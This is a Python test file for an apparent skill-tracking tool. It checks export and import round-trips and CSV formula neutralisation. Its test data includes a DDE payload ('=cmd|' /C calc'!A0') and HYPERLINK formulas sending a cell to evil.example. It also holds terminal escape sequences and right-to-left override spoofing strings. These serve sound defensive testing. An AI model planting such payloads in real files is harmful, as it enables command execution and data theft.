"""What the record keeps, its export writes and its import reads back are decided by one text rule:
anything the record accepts survives export → import into an empty record; the import refuses what
the record refuses; and CSV cells a spreadsheet would run are written as text and read back whole."""

import csv
import io
import json
import tempfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import UTC, date, datetime, time, timedelta
from itertools import cycle
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from skilltrack.domain.drafts import (
    EvidenceDraft,
    InterviewDraft,
    PostingDraft,
    ProjectDraft,
    SessionDraft,
    StoryDraft,
    clean_evidence_title,
    clean_role,
)
from skilltrack.domain.errors import InputError
from skilltrack.domain.interviews import round_by_id
from skilltrack.domain.names import clean_name
from skilltrack.domain.postings.text import clean_line, clean_link
from skilltrack.domain.profile import parse_profile_values
from skilltrack.domain.text import REFUSED, clean_note
from skilltrack.guide import load_builtin_framework
from skilltrack.record.evidence import add_evidence
from skilltrack.record.interviews import add_interview
from skilltrack.record.opener import Record, open_record
from skilltrack.record.postings import PostingChanges, add_posting, edit_posting
from skilltrack.record.profile import update_profile
from skilltrack.record.projects import add_project
from skilltrack.record.sessions import log_session
from skilltrack.record.skills import add_skill, rate_skill
from skilltrack.record.stories import add_story
from skilltrack.transfer.export import write_csv, write_json
from skilltrack.transfer.external import restored_cell, spreadsheet_cell
from skilltrack.transfer.importing import import_file
from tests.conftest import NOW, TODAY
from tests.transfer.helpers import Run, one_error_line, write

NOW_UTC = datetime.fromisoformat(NOW)
UTC_ZONE = ZoneInfo("UTC")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def typed_text(max_size: int = 30) -> st.SearchStrategy[str]:
    """Text as people type or paste it, the characters the rules are about drawn often (refused ones
    included: a field that gets one is given its fallback)."""
    special = st.sampled_from(
        [
            "=",
            "+",
            "-",
            "@",
            "'",
            '"',
            ",",
            "\t",
            "\n",
            "\r\n",
            " ",
            "\u00a0",
            "\u0301",
            "\u200d",
            "\x1b",
            "✓",
        ]
    )
    return st.lists(special | st.characters(codec="utf-8"), max_size=max_size).map("".join)


def kept(clean: Callable[[str], str], text: str, fallback: str) -> str:
    """``text`` as the record would take it, or ``fallback`` when the record refuses it."""
    try:
        return clean(text)
    except InputError:
        return fallback


@contextmanager
def new_record(folder: Path, name: str) -> Iterator[Record]:
    record = open_record(folder / name)
    try:
        yield record
    finally:
        record.close()


def import_into(record: Record, data: bytes) -> None:
    import_file(
        record,
        load_builtin_framework(),
        io.BytesIO(data),
        source=None,
        overrides={},
        dry_run=False,
        now_utc=NOW_UTC,
        machine_zone=UTC_ZONE,
    )


def exported(record: Record, write: Callable[..., object]) -> bytes:
    out = io.StringIO(newline="")
    with record.reading() as db:
        write(db, out)
    return out.getvalue().encode("utf-8")


def fill(record: Record, texts: list[str]) -> None:
    """One of everything the record keeps free text in, each value one of ``texts`` as typed, written
    through the drafts and the profile's parser (a value the record refuses falls back to a plain one)."""
    framework = load_builtin_framework()
    text = cycle(texts)
    days = iter(TODAY - timedelta(days=number) for number in range(1, 40))
    with record.writing() as db:
        update_profile(
            db,
            changes=parse_profile_values(
                {"name": next(text), "title": next(text), "target_date": "2199-12-31"},
                ["senior", "lead", "staff"],
                today=TODAY,
            ),
        )
        skill = kept(clean_name, next(text), "Skill one")
        alias = kept(clean_name, next(text), "Alias one")
        if alias.casefold() == skill.casefold():
            alias = "Alias two"
        added = add_skill(db, typed=skill, framework=framework, aliases=(alias,))
        rate_skill(db, skill_id=added.id, level=3, rated_on=next(days), note=clean_note(next(text)))
        for _ in range(3):
            log_session(
                db,
                draft=SessionDraft(added.name, 30, "study", day=next(days), at=time(9, 0), note=next(text)),
                ladder=lambda: framework,
                now_utc=NOW_UTC,
                fallback_zone=UTC_ZONE,
            )
        project = kept(clean_name, next(text), "Project one")
        add_project(
            db,
            draft=ProjectDraft(
                project,
                clean_role(next(text)) or "lead",
                date(2025, 1, 1),
                None,
                True,
                (added.name,),
                impact=next(text),
                links=(next(text), next(text)),
            ),
            ladder=lambda: framework,
            allow_new=True,
        )
        add_evidence(
            db,
            draft=EvidenceDraft(
                framework.evidence_kinds[0].id,
                clean_evidence_title(next(text)) or "Evidence",
                next(days),
                project=project,
                link=next(text),
                note=next(text),
            ),
            framework=framework,
        )
        add_posting(
            db,
            draft=PostingDraft(
                kept(lambda company: clean_line(company, field="company"), next(text), "Company"),
                kept(lambda title: clean_line(title, field="title"), next(text), "Title"),
                "Requirements: Go. " + next(text) + "\n" + next(text),
                link=kept(clean_link, next(text), ""),
            ),
            framework=framework,
            today=TODAY,
        )
        add_story(
            db,
            draft=StoryDraft(
                kept(clean_name, next(text), "Story one"),
                next(text) + "s",
                "t\n" + next(text),
                next(text) + "\n\ta",
                "r " + next(text),
                (),
            ),
        )
        add_interview(
            db,
            draft=InterviewDraft(round_by_id("coding"), 45, 3, {}, day=next(days), note=next(text)),
            framework=framework,
            now_utc=NOW_UTC,
            fallback_zone=UTC_ZONE,
        )


@settings(max_examples=25, deadline=None)
@given(st.lists(typed_text().map(lambda text: REFUSED.sub("", text)), min_size=1, max_size=12))
def test_anything_the_record_accepts_survives_export_and_import_whole(texts: list[str]) -> None:
    with tempfile.TemporaryDirectory() as folder:
        with new_record(Path(folder), "source.sqlite3") as source:
            fill(source, texts)
            first_json = exported(source, write_json)
            first_csv = exported(source, write_csv)
        with new_record(Path(folder), "from-json.sqlite3") as target:
            import_into(target, first_json)
            assert exported(target, write_json) == first_json
        with new_record(Path(folder), "from-csv.sqlite3") as target:
            import_into(target, first_csv)
            assert exported(target, write_csv) == first_csv


# --- CSV cells a spreadsheet would run ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://evil.example","click")', '\'=HYPERLINK("http://evil.example","click")'),
        ("-5 was the answer", "'-5 was the answer"),
        ("+1 for the pairing", "'+1 for the pairing"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tindented", "'\tindented"),
        ("\rreturn", "'\rreturn"),
        ("'=already quoted", "''=already quoted"),
        ("''-twice", "'''-twice"),
        ("'plain quote", "'plain quote"),
        ("a = b - c", "a = b - c"),
        ("", ""),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text_and_read_back(cell: str, written: str) -> None:
    assert spreadsheet_cell(cell) == written
    assert restored_cell(written) == cell


@given(st.text())
def test_neutralising_a_cell_is_undone_exactly(cell: str) -> None:
    written = spreadsheet_cell(cell)
    assert not written.startswith(FORMULA_STARTS)
    assert restored_cell(written) == cell


NOTES = [
    '=HYPERLINK("http://evil.example/?"&A1,"click me")',
    "-5 was the answer",
    "+1 from the reviewer",
    "@channel read this",
    "'=quoted by hand",
    "a note, with \"quotes\" and 'apostrophes'",
    "",
]


def test_csv_export_neutralises_formulas_and_import_restores_them(run: Run, tmp_path: Path) -> None:
    for day, note in enumerate(NOTES, start=1):
        assert (
            run("log", "Go", "30m", "--date", f"2026-11-{day:02d}", "--at", "09:00", "--note", note).code == 0
        )
    assert run("skill", "add", "=cmd|' /C calc'!A0").code == 0
    assert run("log", "=cmd|' /C calc'!A0", "20m", "--date", "2026-11-10", "--at", "10:00").code == 0
    first = run("export", "--format", "csv")
    assert first.code == 0, first.err
    rows = list(csv.reader(io.StringIO(first.out)))
    notes = [row[5] for row in rows[1:8]]
    assert notes == [spreadsheet_cell(note) for note in NOTES]
    assert notes[0].startswith("'=") and notes[1] == "'-5 was the answer" and notes[4] == "''=quoted by hand"
    assert rows[8][3] == "'=cmd|' /C calc'!A0"
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]

    other = tmp_path / "other.sqlite3"
    exported_file = write(tmp_path / "sessions.csv", first.out)
    assert run("--db", str(other), "import", str(exported_file)).code == 0
    listed = run("--db", str(other), "session", "list", "--json").json()
    assert sorted(row["note"] for row in listed) == sorted([*NOTES, ""])
    second = run("--db", str(other), "export", "--format", "csv")
    assert second.out == first.out


@settings(max_examples=20, deadline=None)
@given(st.lists(typed_text(), min_size=1, max_size=6))
def test_csv_export_import_export_is_byte_identical_for_any_note(notes: list[str]) -> None:
    accepted = [kept(clean_note, note, "") for note in notes]
    with tempfile.TemporaryDirectory() as folder:
        with new_record(Path(folder), "source.sqlite3") as source:
            framework = load_builtin_framework()
            with source.writing() as db:
                for number, note in enumerate(accepted, start=1):
                    log_session(
                        db,
                        draft=SessionDraft(
                            "Go", 30, "study", day=TODAY - timedelta(days=number), at=time(9), note=note
                        ),
                        ladder=lambda: framework,
                        now_utc=NOW_UTC,
                        fallback_zone=UTC_ZONE,
                    )
            first = exported(source, write_csv)
        with new_record(Path(folder), "target.sqlite3") as target:
            import_into(target, first)
            assert exported(target, write_csv) == first


# --- the import refuses what the record refuses ---------------------------------------------------------


def _document(**sections: Any) -> str:
    return json.dumps({"format": "skilltrack", "schema_version": 2, **sections})


SKILL = {
    "uuid": "00000000-0000-4000-8000-000000000001",
    "name": "Go",
    "kind": "language",
    "created_at": "2026-01-01T00:00:00+00:00",
}
SESSION = {
    "uuid": "00000000-0000-4000-8000-000000000002",
    "skill_uuid": SKILL["uuid"],
    "started_at": "2026-11-02T09:00:00+00:00",
    "time_zone": "UTC",
    "local_day": "2026-11-02",
    "minutes": 30,
    "kind": "study",
    "note": "fine",
    "created_at": "2026-11-02T09:30:00+00:00",
}
PROFILE = {"uuid": "00000000-0000-4000-8000-000000000003", "updated_at": "2026-11-02T09:30:00+00:00"}


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (
            _document(skills=[SKILL], sessions=[{**SESSION, "note": "\x1b[2Jgone"}]),
            "sessions[0]: note: contains a control character (U+001B) at position 1; use plain text",
        ),
        (
            _document(skills=[SKILL], sessions=[{**SESSION, "note": "ok\u202etxt.exe"}]),
            "sessions[0]: note: contains a text direction control (U+202E) at position 3; use plain text",
        ),
        (
            _document(skills=[{**SKILL, "name": "G\x00o"}]),
            "skills[0]: name: contains a control character (U+0000) at position 2; use plain text",
        ),
        (
            _document(profile={**PROFILE, "name": "Ana\x07"}),
            "profile: name: contains a control character (U+0007) at position 4; use plain text",
        ),
        (
            _document(profile={**PROFILE, "target_date": "2200-01-01"}),
            "profile: target_date: ",
        ),
    ],
)
def test_our_import_refuses_what_the_record_refuses(
    run: Run, tmp_path: Path, text: str, message: str
) -> None:
    result = run("import", str(write(tmp_path / "export.json", text)))
    assert one_error_line(result).startswith(f"skilltrack: {message}")


def test_other_tools_files_are_held_to_the_same_rule(run: Run, tmp_path: Path) -> None:
    start = int(datetime(2026, 11, 2, 9, tzinfo=UTC).timestamp())
    watson = json.dumps([[start, start + 1800, "go", "a1", ["study", "ok\x1b]0;pwned\x07"], start + 1800]])
    refused = run("import", str(write(tmp_path / "frames", watson)), "--from", "watson")
    assert one_error_line(refused) == (
        "skilltrack: frame 1: tags[0]: contains a control character (U+001B) at position 3; use plain text"
    )
    timew = json.dumps(
        [{"start": "20261102T090000Z", "end": "20261102T093000Z", "tags": ["go"], "annotation": "x\x9b1m"}]
    )
    refused = run("import", str(write(tmp_path / "timew.json", timew)), "--from", "timewarrior")
    assert one_error_line(refused) == (
        "skilltrack: interval 1: annotation: "
        "contains a control character (U+009B) at position 2; use plain text"
    )
    ours = (
        "date,start,minutes,skill,kind,note,started_at,time_zone\n2026-11-02,09:00,30,Go,study,a\x00b,,UTC\n"
    )
    refused = run("import", str(write(tmp_path / "ours.csv", ours)))
    assert one_error_line(refused) == (
        "skilltrack: line 2: note: contains a control character (U+0000) at position 2; use plain text"
    )
    assert run("session", "list", "--json").code != 0  # nothing was written: there is still no record


def test_a_note_imported_from_tags_is_kept_as_the_record_keeps_notes(run: Run, tmp_path: Path) -> None:
    start = int(datetime(2026, 11, 2, 9, tzinfo=UTC).timestamp())
    frames = json.dumps(
        [[start, start + 1800, "go", "a1", ["study", "two  spaces", "tab\there"], start + 1800]]
    )
    assert run("import", str(write(tmp_path / "frames", frames)), "--from", "watson").code == 0
    [session] = run("session", "list", "--json").json()
    assert session["note"] == "tags: two spaces, tab here"
    assert clean_note(session["note"]) == session["note"]


# --- what an older version stored reads back whole; what the record refuses, it refuses itself ---------


OLDER_VALUES = {
    ("learning_session", "note"): "first line\nsecond\tline  with two spaces ",
    ("skill_rating", "note"): " rated\r\nafter a review",
    ("evidence", "note"): "paged at 3am\n\nfixed by 4",
    ("project", "impact"): "two  spaces",
    ("posting", "text"): "Requirements:\n- Go\n- Kafka\n",
    ("story", "action"): "  indented first line\nthen more  ",
    ("profile", "name"): " Ana  Lima ",
}
"""Values a record kept before the text rule folded spaces and line breaks in one-line fields: each is
accepted by the rule (no control character), so the import takes it as it is."""


def test_values_stored_before_the_rule_round_trip_byte_for_byte(tmp_path: Path) -> None:
    with new_record(tmp_path, "source.sqlite3") as source:
        fill(source, ["plain"])
        with source.writing() as db:
            for (table, column), value in OLDER_VALUES.items():
                db.execute(f"UPDATE {table} SET {column} = ?", (value,))
        first_json = exported(source, write_json)
        first_csv = exported(source, write_csv)
    document = json.loads(first_json)
    assert document["sessions"][0]["note"] == OLDER_VALUES["learning_session", "note"]
    assert document["postings"][0]["text"] == OLDER_VALUES["posting", "text"]
    assert document["profile"]["name"] == OLDER_VALUES["profile", "name"]
    with new_record(tmp_path, "from-json.sqlite3") as target:
        import_into(target, first_json)
        assert exported(target, write_json) == first_json
    with new_record(tmp_path, "from-csv.sqlite3") as target:
        import_into(target, first_csv)
        assert exported(target, write_csv) == first_csv


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        (
            {"target_date": date(2999, 1, 1)},
            "target_date: 2999-01-01 is too far off; use a date from 1950 to 2199",
        ),
        ({"target_date": date(1949, 12, 31)}, "target_date: 1949-12-31 is too far off"),
        ({"career_started_on": date(1900, 1, 1)}, "career_start: 1900-01-01 is too far off"),
        ({"name": "Ana\x1b[8m"}, "name: contains a control character (U+001B) at position 4; use plain text"),
        ({"title": "x" * 121}, "title: is 121 characters long; use at most 120"),
        ({"target_level": "senior\x00"}, "target_level: contains a control character (U+0000) at position 7"),
        ({"time_zone": "Mars/Olympus"}, "time_zone: "),
    ],
    ids=lambda value: ",".join(value) if isinstance(value, dict) else "",
)
def test_the_record_refuses_a_profile_value_its_import_would_refuse(
    tmp_path: Path, changes: dict[str, object], message: str
) -> None:
    with new_record(tmp_path, "record.sqlite3") as record:
        with pytest.raises(InputError) as caught, record.writing() as db:
            update_profile(db, changes=changes)
        assert str(caught.value).startswith(message)
        with record.reading() as db:
            assert db.execute("SELECT count(*) FROM profile").fetchone() == (0,)


def test_a_profile_the_record_takes_at_its_bounds_exports_and_imports(tmp_path: Path) -> None:
    changes: dict[str, object] = {
        "name": "Ana Lima",
        "career_started_on": date(1950, 1, 1),
        "target_date": date(2199, 12, 31),
        "target_level": "staff",
        "time_zone": "Europe/Lisbon",
    }
    with new_record(tmp_path, "source.sqlite3") as source:
        with source.writing() as db:
            update_profile(db, changes=changes)
        first = exported(source, write_json)
    with new_record(tmp_path, "target.sqlite3") as target:
        import_into(target, first)
        assert exported(target, write_json) == first


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        (
            PostingChanges(company="Acme\x1b[2J"),
            "company: contains a control character (U+001B) at position 5",
        ),
        (
            PostingChanges(title="Senior\u202e"),
            "title: contains a text direction control (U+202E) at position 7",
        ),
        (PostingChanges(link="https://acme.example/\x00"), "link: contains a control character (U+0000)"),
    ],
    ids=["company", "title", "link"],
)
def test_a_posting_edit_is_held_to_the_rule_by_the_record_itself(
    tmp_path: Path, changes: PostingChanges, message: str
) -> None:
    with new_record(tmp_path, "record.sqlite3") as record:
        fill(record, ["plain"])
        with record.reading() as db:
            [(uuid, before)] = db.execute("SELECT uuid, company FROM posting").fetchall()
        with pytest.raises(InputError) as caught, record.writing() as db:
            edit_posting(db, typed_id=uuid[:8], changes=changes)
        assert str(caught.value).startswith(message)
        with record.writing() as db:
            edited = edit_posting(db, typed_id=uuid[:8], changes=PostingChanges(company="  Acme\t Corp "))
        assert (edited.before.company, edited.after.company) == (before, "Acme Corp")


@settings(max_examples=30, deadline=None)
@given(st.lists(typed_text().map(lambda text: REFUSED.sub("", text)), min_size=4, max_size=4))
def test_any_note_the_rule_accepts_however_it_was_stored_round_trips(notes: list[str]) -> None:
    """Notes stored as they are (not cleaned as typed, as an older version or an import kept them): the
    import takes back every one the rule accepts, through JSON and through CSV, byte for byte."""
    with tempfile.TemporaryDirectory() as folder:
        with new_record(Path(folder), "source.sqlite3") as source:
            fill(source, ["plain"])
            with source.writing() as db:
                keys = [key for (key,) in db.execute("SELECT id FROM learning_session ORDER BY id")]
                for key, note in zip(keys, notes, strict=False):
                    db.execute("UPDATE learning_session SET note = ? WHERE id = ?", (note, key))
                db.execute("UPDATE evidence SET note = ?", (notes[-1],))
            first_json = exported(source, write_json)
            first_csv = exported(source, write_csv)
        with new_record(Path(folder), "from-json.sqlite3") as target:
            import_into(target, first_json)
            assert exported(target, write_json) == first_json
        with new_record(Path(folder), "from-csv.sqlite3") as target:
            import_into(target, first_csv)
            assert exported(target, write_csv) == first_csv
